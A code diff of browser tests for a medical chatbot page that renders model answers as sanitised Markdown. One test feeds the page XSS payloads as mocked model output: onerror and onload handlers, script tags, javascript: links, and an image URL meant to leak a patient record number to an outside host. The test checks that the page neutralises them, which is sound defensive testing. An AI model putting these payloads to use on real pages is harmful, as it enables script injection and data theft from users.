@@ -9,6 +9,12 @@ states the real stack cannot be made to produce on demand (429, 503, an error ev
 middle of an answer, a queue position, a connection that drops) are produced by answering the
 page's requests from the test with ``page.route``; the resume after a drop is also tested
 against a real job.
+
+Answers are Markdown, rendered by the page with the vendored marked + DOMPurify
+(gateway/static/vendor): every test checks that an answer holds only the elements Markdown
+writes, no event handler, no ``javascript:`` link, and that the page requested nothing from
+anywhere but the gateway. The README's screenshot is taken by ``tools/screenshot.py`` with the
+demo model, not here (this test model writes gibberish); the tests save theirs in artifacts/.
 """
 
 from __future__ import annotations
@@ -16,7 +22,6 @@ from __future__ import annotations
 import json
 import os
 import re
-import shutil
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -38,7 +43,6 @@ CHROMIUM_ARGS = [
 ]
 ROOT = Path(__file__).resolve().parent.parent
 SCREENSHOT = ROOT / "artifacts" / "chat-page.png"
-DOCS_SCREENSHOT = ROOT / "docs" / "screenshot-chat.png"
 SLOW = "slow-model"
 
 if not os.environ.get("CI"):
@@ -64,6 +68,35 @@ pytestmark = [pytest.mark.browser, pytest.mark.integration]
 
 MOCK_JOB = "job-mocked-0001"
 DISCLAIMER = "not a substitute for professional medical advice"
+# What a rendered answer may hold: the elements of Markdown (MD_TAGS in app.js), and the
+# placeholder the page shows before the first token.
+ANSWER_TAGS = (
+    "A B BLOCKQUOTE BR CODE DEL EM H1 H2 H3 H4 H5 H6 HR I LI OL P PRE S STRONG SUB SUP "
+    "TABLE TBODY TD TH THEAD TR UL"
+).split()
+# Everything inside the transcript that should not be there, as a list of strings.
+TRANSCRIPT_PROBLEMS = """(allowed) => {
+  const bad = [];
+  for (const e of document.querySelectorAll('#transcript .msg.user .text *')) {
+    bad.push('element in a question: ' + e.tagName);
+  }
+  for (const e of document.querySelectorAll('#transcript .answer .markdown *')) {
+    if (!allowed.includes(e.tagName)) bad.push('element in an answer: ' + e.tagName);
+  }
+  for (const e of document.querySelectorAll('#transcript *')) {
+    for (const a of e.attributes) {
+      if (a.name.startsWith('on')) bad.push('handler: ' + e.tagName + ' ' + a.name);
+      if (a.name === 'style') bad.push('style attribute on ' + e.tagName);
+    }
+  }
+  for (const a of document.querySelectorAll('#transcript .answer a[href]')) {
+    if (!/^(https?|mailto):/i.test(a.getAttribute('href'))) bad.push('href: ' + a.href);
+    if (a.target !== '_blank' || a.rel !== 'noopener noreferrer') {
+      bad.push('link without target/rel: ' + a.outerHTML);
+    }
+  }
+  return bad;
+}"""
 
 
 # ---------------------------------------------------------------------------- fixtures
@@ -98,16 +131,20 @@ class Watch:
         assert not [d for d in self.dialogs if not d.startswith("confirm:")], self.dialogs
         assert not self.errors, self.errors
         assert not self.foreign, self.foreign
-        # Model output is text: no element of any kind inside an answer.
-        assert page.locator("#transcript .text *:not(.placeholder)").count() == 0
+        assert page.evaluate(TRANSCRIPT_PROBLEMS, ANSWER_TAGS) == []
+        assert page.evaluate("() => window.__pwned") is None
 
 
 @pytest.fixture
-def page(browser: Browser, stack: Stack) -> Iterator[Page]:
+def watch(stack: Stack) -> Watch:
+    return Watch(stack.base_url)
+
+
+@pytest.fixture
+def page(browser: Browser, stack: Stack, watch: Watch) -> Iterator[Page]:
     ctx = browser.new_context(viewport={"width": 1280, "height": 800}, base_url=stack.base_url)
     ctx.set_default_timeout(15_000)
     pg = ctx.new_page()
-    watch = Watch(stack.base_url)
 
     def on_dialog(dialog: Any) -> None:
         watch.dialogs.append(f"{dialog.type}:{dialog.message}")
@@ -156,6 +193,26 @@ def last_answer(page: Page) -> Locator:
 
 def answer_text(page: Page) -> str:
     return str(last_answer(page).locator(".answer").evaluate("e => e.textContent"))
+
+
+def answer_html(page: Page, nth: int = -1) -> str:
+    answer = page.locator("#transcript .msg.assistant .answer").nth(nth)
+    return str(answer.evaluate("e => e.innerHTML"))
+
+
+def mock_answer(page: Page, parts: list[str]) -> None:
+    """Answer the next questions with ``parts`` as token events, then done."""
+    events = [("token", i + 1, {"text": t}) for i, t in enumerate(parts)]
+    body = sse(*events, ("done", len(parts) + 1, done_data(len(parts))))
+    page.unroute("**/medgemma")
+    page.route(
+        "**/medgemma", lambda route: route.fulfill(status=200, headers=sse_headers(), body=body)
+    )
+
+
+def chunks(text: str, size: int) -> list[str]:
+    """``text`` cut every ``size`` characters, wherever that falls (mid-markup), as tokens are."""
+    return [text[i : i + size] for i in range(0, len(text), size)]
 
 
 def wait_until(page: Page, cond: Callable[[], bool], timeout_ms: int = 10_000) -> None:
@@ -248,6 +305,19 @@ def test_page_is_served_with_a_strict_policy(stack: Stack) -> None:
         assert c.get("/static/app.css").headers["content-type"].startswith("text/css")
         assert c.get("/static/index.html").status_code == 404  # an allowlist, nothing else
         assert c.get("/static/..%2fapp.py").status_code == 404
+        # The two vendored libraries, served by the gateway itself (the page works offline).
+        html = r.text
+        for name, header in (("marked.umd.js", "marked v18."), ("purify.min.js", "DOMPurify 3.")):
+            assert f'<script src="/static/vendor/{name}" defer></script>' in html
+            v = c.get(f"/static/vendor/{name}")
+            assert v.status_code == 200 and "javascript" in v.headers["content-type"], name
+            assert v.headers["content-security-policy"] == csp
+            assert header in v.text[:400]  # the license header is kept
+        assert html.index("/static/vendor/") < html.index("/static/app.js")  # run before it
+        assert c.get("/static/vendor/README.md").status_code == 404
+        assert c.get("/static/vendor/marked.umd.js.map").status_code == 404
+        assert c.get("/static/vendor/..%2f..%2froutes%2fpage.py").status_code == 404
+        assert "<script>" not in html  # no inline script: every script has a src
 
 
 def test_question_streams_to_a_finished_answer(page: Page, stack: Stack) -> None:
@@ -268,9 +338,7 @@ def test_question_streams_to_a_finished_answer(page: Page, stack: Stack) -> None
     expect(page.locator("#conv-list .conv-open[aria-current=true]")).to_have_count(1)
 
     SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
-    page.screenshot(path=str(SCREENSHOT))
-    DOCS_SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
-    shutil.copyfile(SCREENSHOT, DOCS_SCREENSHOT)
+    page.screenshot(path=str(SCREENSHOT))  # docs/screenshot-chat.png: tools/screenshot.py
 
 
 def test_stop_button_stops_the_answer(page: Page, slow_worker: Proc) -> None:
@@ -429,26 +497,182 @@ def test_conversations_list_open_and_delete(page: Page, stack: Stack) -> None:
         assert c.get(f"/conversations/{cid}").status_code == 404
 
 
-def test_markup_in_answers_stays_text(page: Page) -> None:
-    payload = '<img src=x onerror="alert(1)">'
-    # Real stack: the question itself is markup.
+MARKDOWN_ANSWER = """**Anaemia** often shows as:
+
+- **Fatigue**: tiredness that rest does not fix.
+- **Pallor**: pale skin and conjunctivae.
+- **Dyspnoea**: breathlessness on exertion.
+
+| Test | Adult range |
+|:-----|------------:|
+| Hb (men) | 130–170 g/L |
+| Hb (women) | 120–150 g/L |
+
+Start with `FBC` and ferritin:
+
+```text
+FBC, ferritin, B12, folate
+```
+
+See [NICE CKS](https://cks.nice.org.uk/topics/anaemia-iron-deficiency/)."""
+
+
+def test_markdown_answer_is_rendered(page: Page) -> None:
+    """A list, bold, a table, inline code, a code block and a link, streamed in 7-character
+    tokens, end as the HTML elements Markdown means (and as nothing else: Watch.check)."""
+    sign_in(page)
+    mock_answer(page, chunks(MARKDOWN_ANSWER, 7))
+    send(page, "How does anaemia show?")
+    answer = last_answer(page)
+    expect(answer).to_have_attribute("data-state", "done")
+    md = answer.locator(".answer .markdown")
+    expect(md.locator("p").first.locator("strong")).to_have_text("Anaemia")
+    expect(md.locator("ul > li")).to_have_count(3)
+    expect(md.locator("ul > li > strong")).to_have_text(["Fatigue", "Pallor", "Dyspnoea"])
+    expect(md.locator("table thead th")).to_have_text(["Test", "Adult range"])
+    expect(md.locator("table tbody tr")).to_have_count(2)
+    expect(md.locator("table tbody tr").first.locator("td")).to_have_text(
+        ["Hb (men)", "130–170 g/L"]
+    )
+    expect(md.locator("p > code")).to_have_text("FBC")
+    assert md.locator("pre > code").text_content() == "FBC, ferritin, B12, folate\n"
+    link = md.locator("a")
+    expect(link).to_have_text("NICE CKS")
+    expect(link).to_have_attribute(
+        "href", "https://cks.nice.org.uk/topics/anaemia-iron-deficiency/"
+    )
+    expect(link).to_have_attribute("target", "_blank")
+    expect(link).to_have_attribute("rel", "noopener noreferrer")
+    assert "**" not in answer_text(page) and "|" not in answer_text(page)
+    # Styled by app.css: table cells have borders, a code block is a monospace box.
+    td_border, pre_font, ws = md.evaluate(
+        """m => [getComputedStyle(m.querySelector('td')).borderTopStyle,
+                 getComputedStyle(m.querySelector('pre code')).fontFamily,
+                 getComputedStyle(m).whiteSpace]"""
+    )
+    assert td_border == "solid" and "mono" in pre_font.lower() and ws == "normal"
+    # The question stays plain text, Markdown and all.
+    user = page.locator("#transcript .msg.user .text").last
+    assert user.text_content() == "How does anaemia show?"
+    send(page, "Is **this** bold?")
+    expect(last_answer(page)).to_have_attribute("data-state", "done")
+    assert page.locator("#transcript .msg.user .text").last.text_content() == "Is **this** bold?"
+
+
+def test_markup_scripts_and_remote_images_in_answers_are_neutralised(
+    page: Page, watch: Watch
+) -> None:
+    payload = '<img src=x onerror="window.__pwned = 1">'
+    # Real stack: the question itself is markup, and stays text.
     sign_in(page)
     send(page, payload)
     expect(last_answer(page)).to_have_attribute("data-state", "done", timeout=30_000)
     assert page.locator("#transcript .msg.user .text").last.text_content() == payload
 
     # Model output with markup, split across tokens the way a tokenizer would.
-    def medgemma(route: Route) -> None:
-        parts = ["Result: <im", 'g src=x onerror="alert(1)">', " <script>alert(2)</script>"]
-        events = [("token", i + 1, {"text": t}) for i, t in enumerate(parts)]
-        body = sse(*events, ("done", 4, done_data(3)))
+    leak = "http://198.51.100.7/leak.png?mrn=1234567"  # TEST-NET-2: must never be requested
+    mock_answer(
+        page,
+        [
+            "Result: <im",
+            'g src=x onerror="window.__pwned = 1">',
+            " <script>window.__pwned = 2</script>",
+            " [first](javascript:window.__pwned=3) and",
+            ' <a href="JaVaScRiPt:window.__pwned=4" onclick="window.__pwned=5">second</a>',
+            f"\n\n![scan of the chest]({leak})",
+            f' <img src="{leak}"> <svg onload="window.__pwned=6"></svg>',
+            f' <iframe src="{leak}"></iframe>',
+            ' <p style="color:red" class="error-message" id="alert">styled</p>',
+            ' <form action="/x"><input name="q"><button>go</button></form> end',
+        ],
+    )
+    send(page, "anything")
+    answer = last_answer(page)
+    expect(answer).to_have_attribute("data-state", "done")
+    md = answer.locator(".answer .markdown")
+    expect(md).to_contain_text("Result:")
+    expect(md).to_contain_text("scan of the chest")  # an image is shown as its alt text
+    expect(md).to_contain_text("styled")
+    expect(md).to_contain_text("end")
+    assert "__pwned" not in answer_text(page)  # <script> is dropped with its content
+    assert (
+        page.locator(
+            "#transcript :is(img, script, svg, iframe, form, input, button, style)"
+        ).count()
+        == 0
+    )
+    links = md.locator("a")
+    expect(links).to_have_text(["first", "second"])
+    for i in range(2):  # inert: no href to follow
+        assert links.nth(i).get_attribute("href") is None
+        links.nth(i).click()
+    page.wait_for_timeout(200)
+    assert page.evaluate("() => window.__pwned") is None
+    assert page.locator("[id=alert]").count() == 1  # the model cannot clobber the page's ids
+    assert md.locator("[class], [id], [style]").count() == 0
+    # DOMPurify parses the answer in an inert document (nothing there runs or loads), and
+    # Chromium reports each handler and style attribute it meets there as a CSP violation.
+    # Those reports are expected; any other stays in watch.errors and fails the test.
+    inert = ("Executing inline event handler violates", "Applying inline style violates")
+    reports = [e for e in watch.errors if e.startswith(inert)]
+    assert reports
+    watch.errors[:] = [e for e in watch.errors if not e.startswith(inert)]
+    # Watch.check: no handler attribute, no javascript: link, no request to 198.51.100.7.
+
+
+def test_markdown_split_mid_markup_streams_to_the_right_result(page: Page) -> None:
+    """Tokens cut mid-markup (``**bo`` + ``ld**``) render as text meanwhile and as Markdown at
+    the end; the growing answer is re-rendered at most once per frame, not per token."""
+    held: list[Route] = []
+
+    def first(route: Route) -> None:  # half the answer, then the connection drops
+        body = sse(("token", 1, {"text": "Take it **bo"}))
         route.fulfill(status=200, headers=sse_headers(), body=body)
 
-    page.route("**/medgemma", medgemma)
-    send(page, "anything")
+    page.route("**/medgemma", first)
+    page.route("**/jobs/*/events", lambda route: held.append(route))  # answered below
+    sign_in(page)
+    send(page, "hello")
+    answer = last_answer(page)
+    wait_until(page, lambda: bool(held))
+    expect(answer.locator(".answer")).to_have_text("Take it **bo")  # unfinished: as typed
+    assert answer.locator(".answer strong").count() == 0
+    held[0].fulfill(
+        status=200,
+        headers=sse_headers(),
+        body=sse(
+            ("token", 2, {"text": "ld** with food"}),
+            ("token", 3, {"text": ":\n\n- mor"}),
+            ("token", 4, {"text": "ning\n- eve"}),
+            ("token", 5, {"text": "ning"}),
+            ("done", 6, done_data(5)),
+        ),
+    )
+    expect(answer).to_have_attribute("data-state", "done")
+    md = answer.locator(".answer .markdown")
+    expect(md.locator("strong")).to_have_text("bold")
+    expect(md.locator("li")).to_have_text(["morning", "evening"])
+    assert " ".join(answer_text(page).split()) == "Take it bold with food: morning evening"
+
+    # 400 tokens in one response: far fewer renders than tokens.
+    page.unroute("**/jobs/*/events")
+    words = [f"w{i} " for i in range(400)]
+    mock_answer(page, words)
+    page.evaluate(
+        """() => {
+        window.__renders = 0;
+        new MutationObserver((records) => {
+          for (const r of records) {
+            if (r.target.classList && r.target.classList.contains('markdown')) window.__renders++;
+          }
+        }).observe(document.getElementById('transcript'), {subtree: true, childList: true});
+      }"""
+    )
+    send(page, "count")
     expect(last_answer(page)).to_have_attribute("data-state", "done")
-    assert answer_text(page) == 'Result: <img src=x onerror="alert(1)"> <script>alert(2)</script>'
-    assert page.locator("#transcript img, #transcript script").count() == 0
+    assert answer_text(page).strip() == "".join(words).strip()
+    renders = page.evaluate("() => window.__renders")
+    assert 1 <= renders <= 20, renders
 
 
 def test_refusals_and_mid_stream_error_are_explained(page: Page) -> None:
@@ -565,7 +789,14 @@ def test_dropped_stream_resumes_a_real_job_without_duplicates(page: Page) -> Non
     assert resumed.value.headers["last-event-id"] == [f["id"] for f in fields[:3] if "id" in f][-1]
     tokens = [json.loads(f["data"])["text"] for f in fields if f.get("event") == "token"]
     assert len(fields) > 3  # something was left to resume
-    assert answer_text(page) == "".join(tokens)
+    # No token lost or repeated: the resumed answer renders exactly as the whole text does
+    # when it comes in one piece (the answer is Markdown, its HTML is compared).
+    resumed_html = answer_html(page)
+    assert resumed_html.strip()
+    mock_answer(page, ["".join(tokens)])
+    send(page, "Tell me about asthma inhalers, in one piece.")
+    expect(last_answer(page)).to_have_attribute("data-state", "done")
+    assert answer_html(page) == resumed_html
 
 
 def test_resume_skips_repeated_events_and_gives_up_after_three_tries(page: Page) -> None:
